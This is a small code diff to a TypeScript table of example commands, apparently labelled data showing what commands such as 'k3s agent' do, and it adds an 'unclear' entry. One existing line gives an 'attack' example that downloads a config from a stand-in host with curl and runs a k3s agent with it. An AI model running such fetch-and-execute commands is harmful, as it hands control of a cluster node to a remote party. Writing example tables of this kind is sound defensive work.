@@ -163,6 +163,7 @@ export const clusters1: ExampleTable = {
     use: 'k3s agent -s https://10.0.0.1:6443 -c agent.yaml → read agent.yaml',
     attack:
       'curl -so k.yaml https://example.org/x && k3s agent -c k.yaml → execute ‹https://example.org/x›',
+    unclear: 'k3s agent → who gives it orders',
   },
   'k3s server': {
     use: 'k3s server -c server.yaml → read server.yaml',
